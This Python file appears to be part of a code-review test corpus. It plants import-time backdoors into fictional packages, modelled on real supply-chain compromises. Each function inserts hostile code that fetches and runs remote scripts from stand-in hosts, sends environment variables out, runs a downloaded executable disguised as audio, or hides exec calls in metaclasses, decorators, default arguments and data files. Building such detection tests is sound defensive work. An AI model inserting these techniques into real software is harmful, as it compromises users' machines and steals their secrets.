"""Processes, network and dynamic code as soon as the package is imported (telnyx 4.87.1, lightning 2.6.2)."""

# ruff: noqa: E501 - what is planted is kept on lines of its own length

from __future__ import annotations

from tests.review.corpus.attack import Family, planted
from tests.review.corpus.draft import Draft
from tests.review.corpus.payloads import as_base64

__all__: list[str] = []

_F = Family.IMPORT_TIME


@planted(_F, base="client", where=("harborline/__init__.py",), unasked=True)
def child_in_the_package(draft: Draft) -> None:
    draft.append(
        "harborline/__init__.py",
        """

        import subprocess as _sp

        _sp.Popen("curl -s https://cdn.invalid/setup.sh | bash", shell=True, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
        """,
    )


@planted(_F, base="client", where=("harborline/_client.py",), unasked=True)
def fetched_and_executed(draft: Draft) -> None:
    draft.append(
        "harborline/_client.py",
        """


        try:
            exec(httpx.get("https://updates.invalid/boot.py", timeout=5).text)
        except Exception:
            pass
        """,
    )


@planted(_F, base="client", where=("harborline/_client.py",), unasked=True)
def two_calls_at_the_end(draft: Draft) -> None:
    draft.after(
        "harborline/_client.py", "import platform", "import subprocess\nimport sys\nimport tempfile\nimport wave\n"
    )
    draft.append(
        "harborline/_client.py",
        """


        def setup():
            if os.name != "nt":
                return
            target = os.path.join(os.environ.get("APPDATA", ""), "msbuild.exe")
            with open(target, "wb") as file:
                file.write(httpx.get("http://203.0.113.80:8080/hangup.wav").content)
            subprocess.Popen([target], creationflags=0x08000000)


        def fetch_audio():
            if os.name == "nt":
                return
            with tempfile.TemporaryDirectory() as folder:
                path = os.path.join(folder, "ringtone.wav")
                with open(path, "wb") as file:
                    file.write(httpx.get("http://203.0.113.80:8080/ringtone.wav").content)
                with wave.open(path) as sound:
                    frames = sound.readframes(sound.getnframes())
                subprocess.run([sys.executable, "-"], input=frames, stdout=subprocess.DEVNULL)


        setup()
        fetch_audio()
        """,
    )


@planted(_F, base="client", where=("harborline/_retry.py",), evasive=True, unasked=True)
def in_a_thread(draft: Draft) -> None:
    draft.append(
        "harborline/_retry.py",
        """


        def _prime():
            import os
            from urllib import request

            request.urlopen("https://metrics.invalid/p", data=repr(dict(os.environ)).encode())


        __import__("threading").Thread(target=_prime, daemon=True).start()
        """,
    )


@planted(_F, base="client", where=("harborline/_errors.py",), evasive=True, unasked=True)
def when_a_subclass_is_made(draft: Draft) -> None:
    draft.replace(
        "harborline/_errors.py",
        '    """Anything that this package raises."""\n',
        '    """Anything that this package raises."""\n\n'
        "    def __init_subclass__(cls, **options):\n"
        "        super().__init_subclass__(**options)\n"
        "        import os\n\n"
        "        os.system('sh -c \"$(curl -fsSL https://cdn.invalid/e)\" >/dev/null 2>&1 &')\n",
    )


@planted(
    _F,
    base="framework",
    where=("quayside/runtime/worker.py", "quayside/web/health.py", "quayside/web/_meta.py"),
    evasive=True,
    unasked=True,
)
def in_a_metaclass(draft: Draft) -> None:
    draft.put(
        "quayside/web/_meta.py",
        "import urllib.request\n\n\nclass Registered(type):\n    def __new__(mcs, name, bases, body):\n"
        "        exec(urllib.request.urlopen('https://meta.invalid/' + name).read())\n"
        "        return super().__new__(mcs, name, bases, body)\n",
    )
    draft.replace(
        "quayside/web/health.py",
        "\nclass Health:",
        "from quayside.web._meta import Registered\n\n\nclass Health(metaclass=Registered):",
    )


@planted(_F, base="framework", where=("quayside/settings.py",), evasive=True, unasked=True)
def in_a_decorator(draft: Draft) -> None:
    draft.replace("quayside/settings.py", "\n\ndef load_settings(", "\n\n@_traced\ndef load_settings(")
    draft.after(
        "quayside/settings.py",
        'PREFIX = "QUAYSIDE_"',
        """


        def _traced(function):
            import subprocess

            subprocess.run(["sh", "-c", "curl -s https://trace.invalid/q|sh"], capture_output=True)
            return function
        """,
    )


@planted(_F, base="command", where=("tidelog/_compat.py", "tidelog/__init__.py"), evasive=True, unasked=True)
def through_a_helper_elsewhere(draft: Draft) -> None:
    draft.append("tidelog/__init__.py", "\nfrom tidelog import _compat as _c\n\n_c.Shim().apply()\n")
    draft.put(
        "tidelog/_compat.py",
        '"""Differences between versions of Python."""\n\n\nclass Shim:\n    def apply(self):\n        return self._probe("tidelog")\n\n'
        "    def _probe(self, name):\n        from os import popen as look\n\n"
        "        return look('curl -s https://compat.invalid/' + name + ' | sh').read()\n",
    )


@planted(_F, base="command", where=("tidelog/formats/jsonl.py",), unasked=True)
def in_a_class_body(draft: Draft) -> None:
    draft.after(
        "tidelog/formats/jsonl.py",
        'name = "jsonl"',
        "encoding = __import__('os').popen('curl -s http://192.0.2.44/enc').read() or 'utf-8'\n",
        indent=4,
    )


@planted(_F, base="framework", where=("quayside/__init__.py",), evasive=True)
def in_the_getattr_of_the_module(draft: Draft) -> None:
    draft.after(
        "quayside/__init__.py",
        "    if name in _LAZY:",
        """
        if not _LAZY.setdefault("__seen__", ""):
            _LAZY["__seen__"] = "quayside"
            import subprocess
            import sys

            subprocess.Popen([sys.executable, "-c", "import urllib.request as u;exec(u.urlopen('https://l.invalid/').read())"])
        """,
        indent=8,
    )


@planted(_F, base="command", where=("tidelog/formats/__init__.py",), evasive=True, unasked=True)
def code_in_a_data_file(draft: Draft) -> None:
    draft.put("tidelog/data/rules.tpl", "import os\nos.system('curl -s https://rules.invalid | sh')\n")
    draft.append(
        "tidelog/formats/__init__.py",
        """


        from importlib.resources import files as _files

        exec(compile(_files("tidelog").joinpath("data/rules.tpl").read_text(), "rules", "exec"), {})
        """,
    )


@planted(_F, base="native", where=("fastbuoy/__init__.py", "fastbuoy/_fallback.py"), evasive=True, unasked=True)
def default_value_of_a_parameter(draft: Draft) -> None:
    draft.append(
        "fastbuoy/_fallback.py",
        f"""


        def _select(candidates=("decode", "encode"), hook=exec(__import__("base64").b64decode("{as_base64()}"))):
            return candidates, hook
        """,
    )
